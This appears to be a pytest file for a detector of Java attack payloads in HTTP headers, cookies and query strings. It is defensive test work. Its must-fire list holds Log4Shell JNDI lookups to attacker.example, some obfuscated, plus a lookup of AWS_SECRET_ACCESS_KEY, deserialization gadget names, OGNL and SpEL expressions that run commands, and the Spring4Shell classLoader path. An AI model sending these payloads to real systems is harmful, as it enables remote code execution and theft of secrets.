"""Java: JNDI / Log4Shell, dangerous classes, OGNL and EL, deserialization."""

from __future__ import annotations

import base64

import pytest

from tests.detect.family_cases import benign_values, families, request_rules
from vaultgate.detect.java import is_jndi

MUST_FIRE = [
    "${jndi:ldap://attacker.example/a}",
    "${${lower:j}ndi:${lower:l}dap://attacker.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:rmi://attacker.example/a}",
    "${${env:NOPE:-j}ndi:dns://attacker.example/a}",
    "$${env:x:-${env:y:-$}{jndi:ldap://attacker.example/a}}}",
    "${env:AWS_SECRET_ACCESS_KEY}",
    "${sys:user.home}",
    "java.lang.Runtime",
    "java.io.FileOutputStream",
    "javax.script.ScriptEngineManager",
    "org.apache.commons.collections.functors.InvokerTransformer",
    "com.opensymphony.xwork2.ActionContext",
    "ProcessBuilder.evil.clonetransformer",
    "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ",
    "aced00057372",
    "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
    "(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)",
    "#{T(java.lang.Runtime).getRuntime().exec('id')}",
    "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
]

MUST_NOT_FIRE = [
    "java lang courses",
    "Java developer, runtime 3 years",
    "java.lang.NullPointerException at com.bank.App.main(App.java:12)",
    "Process builder for onboarding",
    "${amount} due on ${date}",
    "JavaScript: Basics of JavaScript Language",
]


@pytest.mark.parametrize("payload", MUST_FIRE)
def test_java_fires(payload: str) -> None:
    assert "java" in families(payload, "header", "x-api-version")


@pytest.mark.parametrize("payload", MUST_NOT_FIRE + benign_values())
def test_prose_and_traces_pass(payload: str) -> None:
    assert "java" not in families(payload)


@pytest.mark.parametrize("offset", [0, 1, 2])
def test_gadget_names_fire_inside_base64_at_any_offset(offset: int) -> None:
    blob = base64.b64encode(b"x" * offset + b"org.apache.InvokerTransformer..")
    assert "java" in families(blob.decode(), "cookie", "state")


def test_jndi_expansion_stops_at_prose() -> None:
    assert is_jndi("${${lower:J}${upper:n}di:ldap://x/}")
    assert not is_jndi("${lower:hello} ${upper:world}")


@pytest.mark.parametrize(
    "query",
    [
        b"class.module.classLoader.URLs%5B0%5D=x",
        b"java.lang.Runtime=test",
        b"rO0ABQ=test",
        b"cnVudGltZQ=x",
    ],
)
def test_class_names_as_parameter_names_fire(query: bytes) -> None:
    raw = b"GET /api?" + query + b" HTTP/1.1\r\nHost: api.example\r\n\r\n"
    assert {r for r in request_rules(raw) if r.startswith("java.")}
